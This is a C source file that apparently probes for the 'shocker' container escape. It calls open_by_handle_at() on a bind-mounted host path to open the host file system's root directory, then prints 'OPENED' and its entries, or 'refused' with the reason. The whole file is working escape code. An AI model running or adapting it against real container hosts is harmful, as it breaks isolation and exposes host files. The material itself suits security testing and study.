// The "shocker" escape, run as root inside a local machine: with a bind mount of
// the computer's file system (the machine's /var/lib/docker) as mount_fd,
// open_by_handle_at() opens any inode of that file system, here ext4's root
// directory (inode 2). Prints "OPENED" and the entries when it works, else
// "refused: <reason>".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(int argc, char** argv) {
  const char* mount_path = argc > 1 ? argv[1] : "/var/lib/docker";
  int mount_fd = open(mount_path, O_RDONLY | O_DIRECTORY);
  if (mount_fd < 0) {
    printf("refused: open %s: %s\n", mount_path, strerror(errno));
    return 0;
  }
  struct file_handle* handle = malloc(sizeof(struct file_handle) + 8);
  handle->handle_bytes = 8;
  handle->handle_type = 1; // FILEID_INO32_GEN: inode, generation
  unsigned int ino_gen[2] = {2, 0};
  memcpy(handle->f_handle, ino_gen, 8);
  int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY);
  if (fd < 0) {
    printf("refused: %s\n", strerror(errno));
    return 0;
  }
  printf("OPENED\n");
  DIR* dir = fdopendir(fd);
  struct dirent* entry;
  while (dir != NULL && (entry = readdir(dir)) != NULL) {
    printf("%s\n", entry->d_name);
  }
  return 0;
}
